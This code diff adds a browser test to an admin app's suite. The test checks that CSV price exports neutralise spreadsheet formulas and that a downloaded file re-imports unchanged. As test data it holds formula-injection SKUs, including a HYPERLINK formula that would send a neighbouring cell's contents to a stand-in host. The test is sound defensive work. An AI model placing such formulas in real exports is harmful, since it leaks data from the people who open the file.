@@ -328,6 +328,43 @@ describe.skipIf(!chromiumAvailable())('admin page in Chromium', () => {
     expect(outline).not.toBe('none');
   });
 
+  it('downloads files a spreadsheet does not run: formula SKUs come out neutralised, and the customer’s file imports back unchanged', async () => {
+    const skus = ['=HYPERLINK("https://x.invalid/?"&A2,"open")', "'=X", '@x', '-1', '+SUM(1)'];
+    const post = async (path: string, body: unknown) => {
+      const response = await server.request('POST', path, { token: tenant.token, body });
+      expect(response.status, response.text).toBe(201);
+      return response.body as { id: number };
+    };
+    const product = await post('/v1/products', { title: 'Formulas', price: 1, variations: skus.map((sku) => ({ sku })) });
+    const customer = await post('/v1/customers', { email: 'formulas@spreadsheet.example', trade: true });
+    await post('/v1/trade-customer-product-prices/bulk', skus.map((sku, index) => ({ customerId: customer.id, productId: product.id, sku, price: index + 1 })));
+    const list = await post('/v1/price-lists', { name: 'Formula list', kind: 'fixed' });
+    await post(`/v1/price-lists/${list.id}/prices/bulk`, skus.map((sku, index) => ({ productId: product.id, sku, price: index + 0.5 })));
+    const cells = ['"\'=HYPERLINK(""https://x.invalid/?""&A2,""open"")"', "''=X", "'@x", "'-1", "'+SUM(1)"];
+
+    const { page } = await open();
+    await signIn(page, tenant.token);
+    await page.getByRole('link', { name: 'Import and export' }).click();
+    await heading(page, 'Import and export').waitFor();
+    const exporting = form(page, 'Download a customer’s prices');
+    await exporting.getByLabel('Customer').fill('formulas@spreadsheet.example');
+    const [download] = await Promise.all([page.waitForEvent('download'), exporting.getByRole('button', { name: 'Download customer prices' }).click()]);
+    const csv = fs.readFileSync(await download.path(), 'utf8');
+    expect(csv).toBe(['customer_id,sku,price,min_quantity,valid_from,valid_until', ...cells.map((cell, index) => `${customer.id},${cell},${index + 1},1,,`), ''].join('\n'));
+
+    const entries = form(page, 'Download a price list’s entries');
+    await entries.getByLabel('Price list').selectOption({ label: 'Formula list' });
+    const [listDownload] = await Promise.all([page.waitForEvent('download'), entries.getByRole('button', { name: 'Download list entries' }).click()]);
+    expect(fs.readFileSync(await listDownload.path(), 'utf8')).toBe(['sku,price,min_quantity,valid_from,valid_until', ...cells.map((cell, index) => `${cell},${index + 0.5},1,,`), ''].join('\n'));
+
+    // The downloaded file, imported back as it is: every price unchanged.
+    const upload = form(page, 'Import a CSV file');
+    await upload.getByLabel('CSV file').setInputFiles({ name: 'formulas.csv', mimeType: 'text/csv', buffer: Buffer.from(csv) });
+    await upload.getByLabel('Mode').selectOption('replace');
+    await upload.getByRole('button', { name: 'Check the file (dry run)' }).click();
+    await page.getByText('Dry run succeeded, nothing changed yet: the import would create 0 prices, delete 0 and leave 5 unchanged (5 rows, long format).').waitFor();
+  });
+
   // The last two look at every view as the tests above left them: with prices, lists, imports and a webhook.
   it('has no serious or critical axe-core violations on any view', async () => {
     const { page } = await open();
